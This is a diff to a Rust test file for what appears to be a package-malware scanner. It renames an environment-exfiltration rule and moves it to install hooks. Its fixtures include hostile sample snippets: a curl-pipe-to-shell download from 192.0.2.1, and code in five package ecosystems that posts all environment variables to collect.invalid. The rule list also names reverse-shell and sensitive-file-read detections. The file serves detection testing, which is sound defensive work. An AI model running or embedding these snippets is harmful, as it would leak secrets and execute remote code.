@@ -76,17 +76,17 @@ fn snippet(rule: &str, eco: Eco) -> Option<&'static str> {
         ("threat.download-and-execute", Eco::Crate) => {
             "pub fn go() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://192.0.2.1/p.sh | sh\").status().ok(); }\n"
         }
-        ("threat.install-environment-exfiltration", Eco::Npm) => {
+        ("threat.environment-exfiltration", Eco::Npm) => {
             "const https = require('https');\nconst req = https.request({ host: 'collect.invalid', method: 'POST' });\nreq.end(JSON.stringify(process.env));\n"
         }
-        ("threat.install-environment-exfiltration", Eco::Pypi) => {
+        ("threat.environment-exfiltration", Eco::Pypi) => {
             "import os, urllib.request\nurllib.request.urlopen('http://collect.invalid/', data=str(dict(os.environ)).encode())\n"
         }
-        ("threat.install-environment-exfiltration", Eco::Gem) => "require 'net/http'\nNet::HTTP.post(URI('http://collect.invalid/'), ENV.to_h.to_s)\n",
-        ("threat.install-environment-exfiltration", Eco::Composer) => {
+        ("threat.environment-exfiltration", Eco::Gem) => "require 'net/http'\nNet::HTTP.post(URI('http://collect.invalid/'), ENV.to_h.to_s)\n",
+        ("threat.environment-exfiltration", Eco::Composer) => {
             "$ch = curl_init('http://collect.invalid/?e=' . urlencode(json_encode(getenv())));\ncurl_exec($ch);\n"
         }
-        ("threat.install-environment-exfiltration", Eco::Crate) => {
+        ("threat.environment-exfiltration", Eco::Crate) => {
             "fn main() { let env: Vec<_> = std::env::vars().collect(); let _ = std::net::TcpStream::connect(\"192.0.2.1:80\").map(|s| (s, env)); }\n"
         }
         ("threat.obfuscated-eval", Eco::Npm) => "var _0x1a2b=['log'],_0x1a2c=1,_0x1a2d=2,_0x1a2e=3,_0x1a2f=4,_0x1a30=5,_0x1a31=6,_0x1a32=7,_0x1a33=8,_0x1a34=9;\neval(_0x1a2b[0]);\n",
@@ -147,7 +147,7 @@ fn every_threat_fires_in_every_ecosystem_with_evidence() {
     let rules = [
         "threat.exec-decoded-base64",
         "threat.download-and-execute",
-        "threat.install-environment-exfiltration",
+        "threat.environment-exfiltration",
         "threat.obfuscated-eval",
         "threat.reverse-shell",
         "threat.install-sensitive-file-read",
@@ -159,7 +159,10 @@ fn every_threat_fires_in_every_ecosystem_with_evidence() {
             let Some(code) = snippet(rule, eco) else {
                 continue;
             };
-            let install_time = rule.starts_with("threat.install-");
+            // Install-time rules, and exfiltration (which matters most
+            // there), are placed in the install hook.
+            let install_time =
+                rule.starts_with("threat.install-") || rule == "threat.environment-exfiltration";
             let files = if install_time {
                 package(eco, code, neutral(eco))
             } else {
